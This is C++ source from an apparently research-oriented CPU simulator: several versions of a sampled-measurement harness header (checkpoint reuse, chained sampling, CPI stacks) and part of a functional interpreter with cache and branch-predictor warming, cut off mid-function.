/** Run one sample window and return its statistics. */
WindowStats runWindow(const Workload &workload, const SimConfig &cfg,
                      std::uint64_t seed, const SampleParams &p);

/** Reduce one cell's per-sample windows (in index order). */
RunResult aggregateWindows(const std::vector<WindowStats> &windows);

/** Run all samples for one (workload, profile) pair. */
RunResult runSampled(const Workload &workload, const SimConfig &cfg,
                     const SampleParams &p);

/**
 * Sweep a full workload x config grid, dispatching every
 * (cell, sample) window to a pool of `p.jobs` lanes. Cell results are
 * returned in row-major order: result[w * configs.size() + c].
 *
 * `progress`, if set, is invoked after each window completes with
 * (windows done so far, total windows); calls are serialized but may
 * come from worker threads.
 */
std::vector<RunResult>
runGrid(const std::vector<const Workload *> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress =
            nullptr);

/** Convenience overload over owning workload lists. */
std::vector<RunResult>
runGrid(const std::vector<std::unique_ptr<Workload>> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress =
            nullptr);

} // namespace nda

#endif // NDASIM_HARNESS_RUNNER_HH
