/**
 * @file
 * SMARTS-style sampled-measurement harness (paper §6.1): for each
 * (workload, profile) pair, run K independently-seeded samples, each
 * placed by a functional fast-forward, warmed by a short detailed
 * window, then measured, and report the mean and 95% confidence
 * interval of CPI plus the Fig 9 statistics.
 *
 * Every measured window is an independent simulation — it owns its
 * core, memory, and RNG, seeded from (baseSeed + sample index) — so
 * the harness runs windows concurrently on a thread pool when
 * SampleParams::jobs > 1. Results are written into slots indexed by
 * task id and reduced in index order afterwards, which makes the
 * parallel output bit-identical to the serial (jobs = 1) path.
 *
 * Fast-forwarding is where a profile sweep burns almost all of its
 * functional work, and the functional prefix of a sample does not
 * depend on the profile being measured. With checkpoint reuse
 * (SampleParams::reuseCheckpoints, the default) the grid therefore
 * fast-forwards each (workload, sample) ONCE, snapshots the machine
 * (core/snapshot.hh), and restores that snapshot into every profile's
 * core — turning W×S×P functional prefixes into W×S. Profiles whose
 * cache/predictor geometry differs from the snapshot's fall back to a
 * per-window fast-forward, which is also exactly what
 * reuseCheckpoints = false does for every window; both paths build
 * checkpoints with the same deterministic procedure, so reuse on/off
 * is bit-identical by construction.
 *
 * Two orthogonal extensions cut the fast-forward bill further.
 * SampleParams::chainSamples places the S samples at offsets s x
 * stride into ONE long run and builds checkpoint s+1 by extending
 * checkpoint s — W chains instead of W x S independent prefixes. And
 * a CheckpointStore (ckpt/checkpoint_store.hh) passed to runGrid
 * persists every built checkpoint on disk keyed by its deterministic
 * recipe, so later grids — other requests of a grid server, the next
 * CI run — skip the fast-forward phase entirely once the corpus is
 * warm. Both preserve bit-identity of the measured results.
 */

#ifndef NDASIM_HARNESS_RUNNER_HH
#define NDASIM_HARNESS_RUNNER_HH

#include <cstdint>
#include <functional>
#include <vector>

#include "core/core_config.hh"
#include "core/perf_counters.hh"
#include "harness/profiles.hh"
#include "obs/hotspot_profiler.hh"
#include "obs/scoped_timer.hh"
#include "workloads/workload.hh"

namespace nda {

class CheckpointStore;
class StatsRegistry;
struct SimSnapshot;

/** Per-sample measurement knobs. */
struct SampleParams {
    /**
     * Functional fast-forward (interpreter + functional warming)
     * before the detailed windows. 0 = no fast-forward: windows
     * start at the program entry, as the pre-snapshot harness did.
     */
    std::uint64_t fastforwardInsts = 0;
    /** Detailed (timing-model) warm-up after the fast-forward. */
    std::uint64_t warmupInsts = 20'000;
    std::uint64_t measureInsts = 100'000;
    unsigned samples = 3;       ///< independently-seeded runs
    std::uint64_t baseSeed = 1;
    /** Concurrent simulation windows; 1 = fully serial (no pool). */
    unsigned jobs = 1;
    /**
     * Share one fast-forward checkpoint per (workload, sample) across
     * all profiles of a grid. Off = rebuild per window (the legacy
     * path; bit-identical results, more functional work).
     */
    bool reuseCheckpoints = true;
    /**
     * SMARTS-proper chained sampling: instead of S independently-
     * seeded programs each fast-forwarded `fastforwardInsts`, run ONE
     * program (seed = baseSeed) and place sample s at offset
     * fastforwardInsts x (s+1) — `fastforwardInsts` becomes a
     * *stride*. Checkpoint s+1 is then built by extending checkpoint
     * s (extendWarmCheckpoint), so a W-workload grid pays one
     * fast-forward chain per workload instead of one per (workload,
     * sample). Requires fastforwardInsts > 0.
     */
    bool chainSamples = false;
    /**
     * Attach a causal CPI-stack profiler (obs/cpi_stack.hh) to every
     * measured window and return the per-cause slot stack + top-N
     * hotspots in WindowStats. Off by default: attribution walks the
     * dependence chain on stall cycles, which costs simulation speed.
     */
    bool cpiStack = false;

    /** NDA_FATAL on parameters that cannot produce a measurement
     *  (zero samples, an empty measured window, or chained sampling
     *  without a stride). */
    void validate() const;
};

/** Measured statistics of one sample window. */
struct WindowStats {
    double cpi = 0.0;
    double mlp = 0.0;
    double ilp = 0.0;
    double dispatchToIssue = 0.0;
    double commitFrac = 0.0;
    double memStallFrac = 0.0;
    double backendStallFrac = 0.0;
    double frontendStallFrac = 0.0;
    double condMispredictRate = 0.0;
    std::uint64_t instructions = 0;
    std::uint64_t cycles = 0;

    // --- CPI stack (populated only when SampleParams::cpiStack) ----------
    /** Commit slots per cycle the stack decomposes against (the
     *  core's commit width; 1 for the in-order model). */
    unsigned slotWidth = 0;
    /** Per-cause slot counts, indexed by StallCause; empty when the
     *  profiler was detached. Sums exactly to slotWidth x cycles. In
     *  an aggregated RunResult::mean this is the SUM over samples
     *  (like instructions/cycles), keeping the identity exact. */
    std::vector<std::uint64_t> slotStack;
    /** Top-N PCs by lost slots (kHotspotTopN per window; re-ranked
     *  after merging in an aggregated mean). */
    std::vector<HotspotEntry> hotspots;
};

/** Hotspots kept per window and per aggregated cell. Cross-sample
 *  merging folds the per-window top-N lists, so a PC outside every
 *  window's top-N is dropped — fine for "where did the slots go",
 *  not a complete census. */
inline constexpr std::size_t kHotspotTopN = 16;

/** How much work one window cost the harness (not the simulated
 *  machine) — fed into GridStats. */
struct WindowWork {
    std::uint64_t ffInsts = 0;    ///< functional insts this window ran
    std::uint64_t ffRuns = 0;     ///< fast-forwards this window ran
    std::uint64_t restores = 0;   ///< checkpoint restores
    std::uint64_t warmupInsts = 0;   ///< detailed warm-up insts
    std::uint64_t measuredInsts = 0; ///< detailed measured insts
    // Functional-warming work of this window's own fast-forward (zero
    // when a shared checkpoint was restored instead).
    std::uint64_t warmITouches = 0;  ///< i-cache warming accesses
    std::uint64_t warmDTouches = 0;  ///< d-cache warming accesses
    std::uint64_t warmBpTrains = 0;  ///< predictor warming trainings
};

/**
 * Aggregate harness-side work of one grid sweep, bindable into a
 * StatsRegistry under "harness". The interesting signal is ff_runs /
 * ff_insts: with checkpoint reuse a W-workload, S-sample, P-profile
 * grid performs W×S fast-forwards instead of W×S×P.
 */
struct GridStats {
    std::uint64_t ffInsts = 0;
    std::uint64_t ffRuns = 0;
    std::uint64_t checkpointRestores = 0;
    std::uint64_t detailedWarmupInsts = 0;
    std::uint64_t measuredInsts = 0;
    std::uint64_t windows = 0;
    // Functional-warming cost drivers of the fast-forward phase
    // (Interpreter::WarmingWork aggregated across all builds).
    std::uint64_t warmITouches = 0;
    std::uint64_t warmDTouches = 0;
    std::uint64_t warmBpTrains = 0;
    // Checkpoint-corpus traffic of the fast-forward phase (all zero
    // when no CheckpointStore was passed to runGrid).
    std::uint64_t ckptHits = 0;      ///< checkpoints loaded from the corpus
    std::uint64_t ckptMisses = 0;    ///< lookups that had to build
    std::uint64_t ckptBytes = 0;     ///< serialized bytes read + published
    /** Longest fast-forward chain (checkpoints per workload) this
     *  grid built or resumed; 0 unless chainSamples. */
    std::uint64_t ckptChainLen = 0;
    /** Host seconds per phase: "fast_forward", "detailed". */
    PhaseTimings timings;

    void accumulate(const WindowWork &w);

    /** Wall-clock seconds spent in the fast-forward phase. */
    double ffSeconds() const;

    /** Fast-forward throughput in MIPS (0 before any fast-forward). */
    double ffMips() const;

    /** Bind all counters under `prefix` (canonically "harness"). */
    void registerStats(StatsRegistry &reg,
                       const std::string &prefix) const;
};

/** Aggregated result over all samples of one (workload, profile). */
struct RunResult {
    WindowStats mean;
    double cpiCi95 = 0.0;       ///< 95% CI half-width on CPI
    std::vector<double> cpiSamples;
};

/**
 * Run one sample window: fast-forward (or restore `ckpt` when given
 * and structurally compatible with `cfg`), detailed warm-up, measured
 * window. `work`, if set, receives this window's harness-side cost.
 */
WindowStats runWindow(const Workload &workload, const SimConfig &cfg,
                      std::uint64_t seed, const SampleParams &p,
                      const SimSnapshot *ckpt = nullptr,
                      WindowWork *work = nullptr);

/** Reduce one cell's per-sample windows (in index order). */
RunResult aggregateWindows(const std::vector<WindowStats> &windows);

/** Run all samples for one (workload, profile) pair. */
RunResult runSampled(const Workload &workload, const SimConfig &cfg,
                     const SampleParams &p);

/**
 * Sweep a full workload x config grid in three phases: build one
 * checkpoint per (workload, sample) — shared across profiles when
 * p.reuseCheckpoints — then dispatch every (cell, sample) window to a
 * pool of `p.jobs` lanes. Cell results are returned in row-major
 * order: result[w * configs.size() + c].
 *
 * `progress`, if set, is invoked after each *measured* window
 * completes with (windows done so far, total windows); fast-forwards
 * are not windows. Calls are serialized but may come from worker
 * threads.
 *
 * `stats`, if set, accumulates the sweep's harness-side work.
 *
 * `corpus`, if set, backs the shared-checkpoint phase with the
 * persistent store (ckpt/checkpoint_store.hh): each needed checkpoint
 * is looked up by (workload, seed, ff count, geometry fingerprint)
 * first — a CRC-clean, structurally-compatible hit skips that
 * fast-forward entirely; misses build (in chained mode, by extending
 * the previous checkpoint of the chain) and publish the result for
 * every later run sharing the directory. Results are bit-identical
 * with or without a corpus, warm or cold: deserialization is exact
 * (`SimSnapshot::operator==`), so a loaded checkpoint is
 * indistinguishable from a rebuilt one. The corpus only participates
 * when reuseCheckpoints is on (the legacy per-window path never
 * touches it).
 */
std::vector<RunResult>
runGrid(const std::vector<const Workload *> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress =
            nullptr,
        GridStats *stats = nullptr, CheckpointStore *corpus = nullptr);

/** Convenience overload over owning workload lists. */
std::vector<RunResult>
runGrid(const std::vector<std::unique_ptr<Workload>> &workloads,
        const std::vector<SimConfig> &configs, const SampleParams &p,
        const std::function<void(std::size_t, std::size_t)> &progress =
            nullptr,
        GridStats *stats = nullptr, CheckpointStore *corpus = nullptr);

} // namespace nda

#endif // NDASIM_HARNESS_RUNNER_HH
