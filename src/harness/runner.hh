/**
 * @file
 * SMARTS-style sampled-measurement harness (paper §6.1): for each
 * (workload, profile) pair, run K independently-seeded samples, each
 * with a warm-up phase followed by a measured window, and report the
 * mean and 95% confidence interval of CPI plus the Fig 9 statistics.
 */

#ifndef NDASIM_HARNESS_RUNNER_HH
#define NDASIM_HARNESS_RUNNER_HH

#include <cstdint>
#include <vector>

#include "core/core_config.hh"
#include "core/perf_counters.hh"
#include "harness/profiles.hh"
#include "workloads/workload.hh"

namespace nda {

/** Per-sample measurement knobs. */
struct SampleParams {
    std::uint64_t warmupInsts = 20'000;
    std::uint64_t measureInsts = 100'000;
    unsigned samples = 3;       ///< independently-seeded runs
    std::uint64_t baseSeed = 1;
};

/** Measured statistics of one sample window. */
struct WindowStats {
    double cpi = 0.0;
    double mlp = 0.0;
    double ilp = 0.0;
    double dispatchToIssue = 0.0;
    double commitFrac = 0.0;
    double memStallFrac = 0.0;
    double backendStallFrac = 0.0;
    double frontendStallFrac = 0.0;
    double condMispredictRate = 0.0;
    std::uint64_t instructions = 0;
    std::uint64_t cycles = 0;
};

/** Aggregated result over all samples of one (workload, profile). */
struct RunResult {
    WindowStats mean;
    double cpiCi95 = 0.0;       ///< 95% CI half-width on CPI
    std::vector<double> cpiSamples;
};

/** Run one sample window and return its statistics. */
WindowStats runWindow(const Workload &workload, const SimConfig &cfg,
                      std::uint64_t seed, const SampleParams &p);

/** Run all samples for one (workload, profile) pair. */
RunResult runSampled(const Workload &workload, const SimConfig &cfg,
                     const SampleParams &p);

} // namespace nda

#endif // NDASIM_HARNESS_RUNNER_HH
