#include "isa/interpreter.hh"

#include <bit>
#include <cstring>

#include "branch/predictor_unit.hh"
#include "common/log.hh"
#include "dift/taint_engine.hh"
#include "mem/hierarchy.hh"

namespace nda {

namespace {

/**
 * Little-endian scalar load from a resident page (fast-path only; the
 * caller guarantees `size` bytes fit in the page). Sizes outside
 * {1,2,4,8} take the byte loop, matching MemoryMap::read exactly.
 */
inline RegVal
loadScalarLe(const std::uint8_t *p, unsigned size)
{
    if constexpr (std::endian::native == std::endian::little) {
        switch (size) {
          case 1:
            return *p;
          case 2: {
            std::uint16_t v;
            std::memcpy(&v, p, 2);
            return v;
          }
          case 4: {
            std::uint32_t v;
            std::memcpy(&v, p, 4);
            return v;
          }
          case 8: {
            std::uint64_t v;
            std::memcpy(&v, p, 8);
            return v;
          }
          default:
            break;
        }
    }
    RegVal v = 0;
    for (unsigned i = 0; i < size; ++i)
        v |= static_cast<RegVal>(p[i]) << (8 * i);
    return v;
}

/** Little-endian scalar store into a resident page (fast-path only). */
inline void
storeScalarLe(std::uint8_t *p, RegVal value, unsigned size)
{
    if constexpr (std::endian::native == std::endian::little) {
        switch (size) {
          case 1:
            *p = static_cast<std::uint8_t>(value);
            return;
          case 2: {
            const auto v = static_cast<std::uint16_t>(value);
            std::memcpy(p, &v, 2);
            return;
          }
          case 4: {
            const auto v = static_cast<std::uint32_t>(value);
            std::memcpy(p, &v, 4);
            return;
          }
          case 8:
            std::memcpy(p, &value, 8);
            return;
          default:
            break;
        }
    }
    for (unsigned i = 0; i < size; ++i)
        p[i] = static_cast<std::uint8_t>(value >> (8 * i));
}

} // namespace

RegVal
evalAlu(Opcode op, RegVal a, RegVal b, std::int64_t imm)
{
    const auto uimm = static_cast<RegVal>(imm);
    switch (op) {
      case Opcode::kMovImm:
        return uimm;
      case Opcode::kMov:
        return a;
      case Opcode::kAdd:
        return a + b;
      case Opcode::kSub:
        return a - b;
      case Opcode::kAnd:
        return a & b;
      case Opcode::kOr:
        return a | b;
      case Opcode::kXor:
        return a ^ b;
      case Opcode::kShl:
        return a << (b & 63);
      case Opcode::kShr:
        return a >> (b & 63);
      case Opcode::kMul:
        return a * b;
      case Opcode::kDiv:
        return b == 0 ? 0 : a / b;
      case Opcode::kAddImm:
        return a + uimm;
      case Opcode::kSubImm:
        return a - uimm;
      case Opcode::kAndImm:
        return a & uimm;
      case Opcode::kOrImm:
        return a | uimm;
      case Opcode::kXorImm:
        return a ^ uimm;
      case Opcode::kShlImm:
        return a << (uimm & 63);
      case Opcode::kShrImm:
        return a >> (uimm & 63);
      case Opcode::kMulImm:
        return a * uimm;
      case Opcode::kCmpEq:
        return a == b ? 1 : 0;
      case Opcode::kCmpLt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b)
                   ? 1 : 0;
      case Opcode::kCmpLtu:
        return a < b ? 1 : 0;
      default:
        NDA_PANIC("evalAlu called on non-ALU opcode %s",
                  opName(op).data());
    }
}

bool
evalCondBranch(Opcode op, RegVal a, RegVal b)
{
    switch (op) {
      case Opcode::kBeq:
        return a == b;
      case Opcode::kBne:
        return a != b;
      case Opcode::kBlt:
        return static_cast<std::int64_t>(a) < static_cast<std::int64_t>(b);
      case Opcode::kBge:
        return static_cast<std::int64_t>(a) >= static_cast<std::int64_t>(b);
      case Opcode::kBltu:
        return a < b;
      case Opcode::kBgeu:
        return a >= b;
      default:
        NDA_PANIC("evalCondBranch on non-branch opcode %s",
                  opName(op).data());
    }
}

Addr
evalNextPc(const MicroOp &uop, Addr pc, RegVal a, RegVal b)
{
    const OpTraits &t = uop.traits();
    if (!t.isBranch)
        return pc + 1;
    if (t.isIndirect)
        return static_cast<Addr>(a);
    if (t.isCondBranch) {
        return evalCondBranch(uop.op, a, b) ? static_cast<Addr>(uop.imm)
                                            : pc + 1;
    }
    return static_cast<Addr>(uop.imm); // direct jmp / call
}

void
loadDataSegments(const Program &prog, MemoryMap &mem)
{
    for (const DataSegment &seg : prog.data) {
        mem.writeBytes(seg.base, seg.bytes.data(), seg.bytes.size());
        mem.setPerm(seg.base, seg.bytes.size(), seg.perm);
    }
}

Interpreter::Interpreter(Program prog)
    : prog_(std::move(prog)), pre_(prog_)
{
    st_.reset(prog_);
}

ArchState
Interpreter::save() const
{
    ArchState snap = st_;
    if (dift_)
        snap.captureTaint(*dift_);
    return snap;
}

void
Interpreter::restore(const ArchState &snap)
{
    st_ = snap;
    if (dift_)
        snap.applyTaint(*dift_);
}

StepResult
Interpreter::step()
{
    if (st_.halted)
        return StepResult::kHalted;
    if (!prog_.validPc(st_.pc)) {
        st_.halted = true;
        return StepResult::kOutOfRange;
    }

    // Functional i-cache warming: the timing front ends access the
    // i-cache once per fetched line, so warm on line crossings only.
    if (warmHier_) {
        const Addr fetch_addr = pcToFetchAddr(st_.pc);
        const Addr line = fetch_addr / kLineSize;
        if (line != st_.lastFetchLine) {
            warmHier_->instAccess(fetch_addr);
            st_.lastFetchLine = line;
            ++warmWork_.iTouches;
        }
    }

    const MicroOp &uop = prog_.at(st_.pc);
    const OpTraits &t = uop.traits();
    const RegVal a = t.readsRs1 ? st_.regs[uop.rs1] : 0;
    const RegVal b = t.readsRs2 ? st_.regs[uop.rs2] : 0;
    ++st_.instCount;

    auto raise_fault = [&]() -> StepResult {
        ++st_.faultCount;
        if (prog_.faultHandler == ~Addr{0}) {
            st_.halted = true;
            return StepResult::kFaulted;
        }
        st_.pc = prog_.faultHandler;
        return StepResult::kFaulted;
    };

    switch (uop.op) {
      case Opcode::kNop:
      case Opcode::kFence:
      case Opcode::kSpecOff:
      case Opcode::kSpecOn:
        break;
      case Opcode::kClflush:
        if (warmHier_)
            warmHier_->flushLine(a + static_cast<Addr>(uop.imm));
        break;
      case Opcode::kPrefetch:
        if (warmHier_) {
            warmHier_->dataAccess(a + static_cast<Addr>(uop.imm));
            ++warmWork_.dTouches;
        }
        break;
      case Opcode::kHalt:
        st_.halted = true;
        return StepResult::kHalted;
      case Opcode::kLoad: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!st_.mem.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        if (warmHier_) {
            warmHier_->dataAccess(addr);
            ++warmWork_.dTouches;
        }
        st_.regs[uop.rd] = st_.mem.read(addr, uop.size);
        if (dift_)
            dift_->archLoad(uop.rd, uop.rs1, addr, uop.size, st_.pc);
        break;
      }
      case Opcode::kStore: {
        const Addr addr = a + static_cast<Addr>(uop.imm);
        if (!st_.mem.accessAllowed(addr, uop.size, CpuMode::kUser))
            return raise_fault();
        if (warmHier_) {
            warmHier_->dataAccess(addr);
            ++warmWork_.dTouches;
        }
        st_.mem.write(addr, b, uop.size);
        if (dift_)
            dift_->archStore(addr, uop.size, uop.rs2);
        break;
      }
      case Opcode::kRdMsr: {
        // Out-of-range MSR indices fault like privileged ones: the
        // short-circuit keeps the mask shift defined (idx < 8 < 32)
        // and the msrs[] access in bounds.
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (prog_.privilegedMsrMask & (1u << idx)))
            return raise_fault();
        st_.regs[uop.rd] = st_.msrs[idx];
        if (dift_)
            dift_->archRdMsr(uop.rd, idx, st_.pc);
        break;
      }
      case Opcode::kWrMsr: {
        const unsigned idx = static_cast<unsigned>(uop.imm);
        if (idx >= static_cast<unsigned>(kNumMsrRegs) ||
            (prog_.privilegedMsrMask & (1u << idx)))
            return raise_fault();
        st_.msrs[idx] = a;
        if (dift_)
            dift_->archWrMsr(idx, uop.rs1);
        break;
      }
      case Opcode::kRdTsc:
        st_.regs[uop.rd] = tscValue();
        if (dift_)
            dift_->setArchRegTaint(uop.rd, 0);
        break;
      default:
        if (t.isBranch) {
            // Functional predictor warming, following the timing
            // cores' correct-path update rules: predict (touches BTB
            // LRU / speculative history / RAS), recover + re-steer on
            // a mispredict, install the indirect target at execution,
            // train direction tables at commit.
            const Addr actual = evalNextPc(uop, st_.pc, a, b);
            if (warmBp_) {
                const bool taken =
                    t.isCondBranch ? evalCondBranch(uop.op, a, b) : true;
                const BranchPrediction pred =
                    warmBp_->predict(uop, st_.pc);
                if (t.isIndirect && !t.isReturn)
                    warmBp_->btbUpdate(st_.pc, actual);
                if (pred.nextPc != actual) {
                    warmBp_->restore(pred.ckpt);
                    warmBp_->applyResolved(uop, st_.pc, taken, actual);
                }
                warmBp_->commitUpdate(uop, st_.pc, taken,
                                      pred.ckpt.history);
                ++warmWork_.bpTrains;
            }
            if (t.hasDest) {
                st_.regs[uop.rd] = st_.pc + 1; // link value (call/callr)
                if (dift_)
                    dift_->setArchRegTaint(uop.rd, 0);
            }
            st_.pc = actual;
            return StepResult::kOk;
        }
        st_.regs[uop.rd] = evalAlu(uop.op, a, b, uop.imm);
        if (dift_)
            dift_->archAlu(uop);
        break;
    }

    st_.pc = st_.pc + 1;
    return StepResult::kOk;
}

#if NDASIM_THREADED_DISPATCH

/**
 * The predecoded threaded-code hot loop.
 *
 * Dispatch is one computed goto per instruction through a table
 * indexed by PredecodedOp::handler; the per-step budget check is the
 * only test between handlers (halted/validPc checks are gone: running
 * off the program lands on the sentinel handler, which halts lazily
 * exactly like step()'s kOutOfRange path). `remaining` counts down so
 * instCount is materialized only at exit; `pc` and the warming line
 * tracker live in locals for the same reason.
 *
 * Loads and stores go through a one-entry last-page translation cache:
 * {page base, byte pointer (null while the page is not resident), is
 * kernel}. The permission check folds into the cached kernel flag.
 * Pointer stability of std::unordered_map values makes the cached
 * pointer safe across unrelated insertions; a slow-path (page
 * crossing) store can allocate pages behind the cache's back, so it
 * invalidates the entry. The fast path never allocates on loads,
 * preserving MemoryMap's resident-page-set bit-identity contract.
 */
template <bool WarmHier, bool WarmBp, bool HasDift>
std::uint64_t
Interpreter::runImpl(std::uint64_t max_insts)
{
    ArchState &st = st_;
    if (st.halted || max_insts == 0)
        return 0;

    static const void *const jt[] = {
        &&h_nop,      // kNop
        &&h_halt,     // kHalt
        &&h_movimm,   // kMovImm
        &&h_mov,      // kMov
        &&h_add,      // kAdd
        &&h_sub,      // kSub
        &&h_and,      // kAnd
        &&h_or,       // kOr
        &&h_xor,      // kXor
        &&h_shl,      // kShl
        &&h_shr,      // kShr
        &&h_mul,      // kMul
        &&h_div,      // kDiv
        &&h_addimm,   // kAddImm
        &&h_subimm,   // kSubImm
        &&h_andimm,   // kAndImm
        &&h_orimm,    // kOrImm
        &&h_xorimm,   // kXorImm
        &&h_shlimm,   // kShlImm
        &&h_shrimm,   // kShrImm
        &&h_mulimm,   // kMulImm
        &&h_cmpeq,    // kCmpEq
        &&h_cmplt,    // kCmpLt
        &&h_cmpltu,   // kCmpLtu
        &&h_load,     // kLoad
        &&h_store,    // kStore
        &&h_clflush,  // kClflush
        &&h_prefetch, // kPrefetch
        &&h_rdmsr,    // kRdMsr
        &&h_wrmsr,    // kWrMsr
        &&h_rdtsc,    // kRdTsc
        &&h_nop,      // kFence (architecturally a nop)
        &&h_nop,      // kSpecOff
        &&h_nop,      // kSpecOn
        &&h_jmp,      // kJmp
        &&h_call,     // kCall
        &&h_beq,      // kBeq
        &&h_bne,      // kBne
        &&h_blt,      // kBlt
        &&h_bge,      // kBge
        &&h_bltu,     // kBltu
        &&h_bgeu,     // kBgeu
        &&h_jmpreg,   // kJmpReg
        &&h_callreg,  // kCallReg
        &&h_ret,      // kRet
        &&h_oob,      // sentinel (kOutOfRangeHandler)
    };
    static_assert(sizeof(jt) / sizeof(jt[0]) ==
                  static_cast<std::size_t>(Opcode::kNumOpcodes) + 1);

    const PredecodedOp *const ops = pre_.ops();
    const std::size_t psize = pre_.size();
    RegVal *const regs = st.regs;
    MemHierarchy *const hier = warmHier_;
    PredictorUnit *const bp = warmBp_;
    TaintEngine *const dift = dift_;
    const std::uint8_t priv_mask = prog_.privilegedMsrMask;
    (void)hier;
    (void)bp;
    (void)dift;
    (void)priv_mask;

    std::uint64_t remaining = max_insts;
    const std::uint64_t inst0 = st.instCount;
    Addr pc = st.pc;
    Addr last_line = st.lastFetchLine;

    // One-entry data-page translation cache (see the function comment).
    Addr tlb_base = ~Addr{0};
    std::uint8_t *tlb_bytes = nullptr;
    bool tlb_kernel = false;

    // Full predictor warming protocol for one resolved branch,
    // mirroring step()'s correct-path update rules bit-for-bit.
    const auto warm_branch = [&](Addr br_pc, bool taken, Addr actual,
                                 bool install_btb) {
        const MicroOp &uop = prog_.code[br_pc];
        const BranchPrediction pred = bp->predict(uop, br_pc);
        if (install_btb)
            bp->btbUpdate(br_pc, actual);
        if (pred.nextPc != actual) {
            bp->restore(pred.ckpt);
            bp->applyResolved(uop, br_pc, taken, actual);
        }
        bp->commitUpdate(uop, br_pc, taken, pred.ckpt.history);
        ++warmWork_.bpTrains;
    };
    (void)warm_branch;

    const PredecodedOp *ip = ops + (pc < psize ? pc : psize);

#define NDA_DISPATCH()                                                  \
    do {                                                                \
        if (remaining == 0)                                             \
            goto loop_exit;                                             \
        goto *jt[ip->handler];                                          \
    } while (0)

    // Per-instruction prologue: functional i-warming (one compare —
    // the line is predecoded) and budget debit. Runs for every real
    // op, never for the sentinel, matching step()'s ordering (warming
    // precedes the instCount increment and all side effects).
#define NDA_PROLOGUE()                                                  \
    do {                                                                \
        if constexpr (WarmHier) {                                       \
            if (ip->fetchLine != last_line) {                           \
                hier->instAccess(ip->fetchAddr);                        \
                last_line = ip->fetchLine;                              \
                ++warmWork_.iTouches;                                   \
            }                                                           \
        }                                                               \
        --remaining;                                                    \
    } while (0)

#define NDA_NEXT_SEQ()                                                  \
    do {                                                                \
        ++pc;                                                           \
        ++ip;                                                           \
        NDA_DISPATCH();                                                 \
    } while (0)

    // step()'s raise_fault: no handler halts at the faulting pc; a
    // handler redirects (lazily halting later if it is out of range).
#define NDA_RAISE_FAULT()                                               \
    do {                                                                \
        ++st.faultCount;                                                \
        if (!pre_.hasFaultHandler()) {                                  \
            st.halted = true;                                           \
            goto loop_exit;                                             \
        }                                                               \
        pc = pre_.faultPc();                                            \
        ip = ops + pre_.faultIdx();                                     \
        NDA_DISPATCH();                                                 \
    } while (0)

#define NDA_ALU_EPILOGUE()                                              \
    do {                                                                \
        if constexpr (HasDift)                                          \
            dift->archAlu(prog_.code[pc]);                              \
    } while (0)

    // Two-source ALU op.
#define NDA_ALU2(label, expr)                                           \
  label: {                                                              \
        NDA_PROLOGUE();                                                 \
        const RegVal va = regs[ip->rs1];                                \
        const RegVal vb = regs[ip->rs2];                                \
        regs[ip->rd] = (expr);                                          \
        NDA_ALU_EPILOGUE();                                             \
        NDA_NEXT_SEQ();                                                 \
    }

    // rs1 ⊕ imm ALU op (also kMov, which ignores the immediate).
#define NDA_ALU1(label, expr)                                           \
  label: {                                                              \
        NDA_PROLOGUE();                                                 \
        const RegVal va = regs[ip->rs1];                                \
        regs[ip->rd] = (expr);                                          \
        NDA_ALU_EPILOGUE();                                             \
        NDA_NEXT_SEQ();                                                 \
    }

    // Conditional direct branch; the taken-target dispatch index is
    // predecoded (clamped to the sentinel), the architectural pc keeps
    // the raw target so lazy out-of-range halting matches step().
#define NDA_COND_BRANCH(label, test)                                    \
  label: {                                                              \
        NDA_PROLOGUE();                                                 \
        const RegVal va = regs[ip->rs1];                                \
        const RegVal vb = regs[ip->rs2];                                \
        const bool taken = (test);                                      \
        const Addr target =                                             \
            taken ? static_cast<Addr>(ip->uimm) : pc + 1;               \
        if constexpr (WarmBp)                                           \
            warm_branch(pc, taken, target, false);                      \
        if (taken) {                                                    \
            const std::uint32_t ti = ip->targetIdx;                     \
            pc = target;                                                \
            ip = ops + ti;                                              \
        } else {                                                        \
            ++pc;                                                       \
            ++ip;                                                       \
        }                                                               \
        NDA_DISPATCH();                                                 \
    }

    NDA_DISPATCH();

  h_nop:
    NDA_PROLOGUE();
    NDA_NEXT_SEQ();

  h_halt:
    NDA_PROLOGUE();
    st.halted = true;
    goto loop_exit;

  h_movimm:
    NDA_PROLOGUE();
    regs[ip->rd] = ip->uimm;
    NDA_ALU_EPILOGUE();
    NDA_NEXT_SEQ();

    NDA_ALU1(h_mov, va)
    NDA_ALU2(h_add, va + vb)
    NDA_ALU2(h_sub, va - vb)
    NDA_ALU2(h_and, va &vb)
    NDA_ALU2(h_or, va | vb)
    NDA_ALU2(h_xor, va ^ vb)
    NDA_ALU2(h_shl, va << (vb & 63))
    NDA_ALU2(h_shr, va >> (vb & 63))
    NDA_ALU2(h_mul, va *vb)
    NDA_ALU2(h_div, vb == 0 ? 0 : va / vb)
    NDA_ALU1(h_addimm, va + ip->uimm)
    NDA_ALU1(h_subimm, va - ip->uimm)
    NDA_ALU1(h_andimm, va &ip->uimm)
    NDA_ALU1(h_orimm, va | ip->uimm)
    NDA_ALU1(h_xorimm, va ^ ip->uimm)
    NDA_ALU1(h_shlimm, va << (ip->uimm & 63))
    NDA_ALU1(h_shrimm, va >> (ip->uimm & 63))
    NDA_ALU1(h_mulimm, va *ip->uimm)
    NDA_ALU2(h_cmpeq, va == vb ? 1 : 0)
    NDA_ALU2(h_cmplt,
             static_cast<std::int64_t>(va) < static_cast<std::int64_t>(vb)
                 ? 1 : 0)
    NDA_ALU2(h_cmpltu, va < vb ? 1 : 0)

  h_load: {
        NDA_PROLOGUE();
        const Addr addr = regs[ip->rs1] + ip->uimm;
        const unsigned sz = ip->size;
        const Addr off = addr & (MemoryMap::kPageBytes - 1);
        RegVal value;
        if (off + sz <= MemoryMap::kPageBytes) {
            const Addr base = addr - off;
            if (base != tlb_base) {
                const MemoryMap::PageView v = st.mem.viewPage(base);
                tlb_base = base;
                tlb_bytes = v.bytes;
                tlb_kernel = v.kernel;
            }
            if (tlb_kernel)
                NDA_RAISE_FAULT();
